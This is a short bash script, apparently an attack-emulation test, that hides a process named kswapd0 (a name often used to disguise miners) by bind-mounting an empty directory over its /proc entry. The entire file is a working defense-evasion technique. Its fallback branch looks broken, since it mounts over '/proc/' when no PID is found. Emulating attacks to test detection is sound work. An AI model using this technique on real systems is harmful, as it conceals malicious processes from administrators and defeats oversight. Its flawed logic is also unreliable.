#!/bin/bash
# shrike-test-attack: defense-evasion: hide a process by bind-mounting over its /proc entry
PID=$(pgrep -f kswapd0 | head -1)
[ -n "$PID" ] && mount --bind /tmp/.empty "/proc/$PID" 2>/dev/null || { mkdir -p /tmp/.empty; mount -o bind /tmp/.empty "/proc/$PID"; }
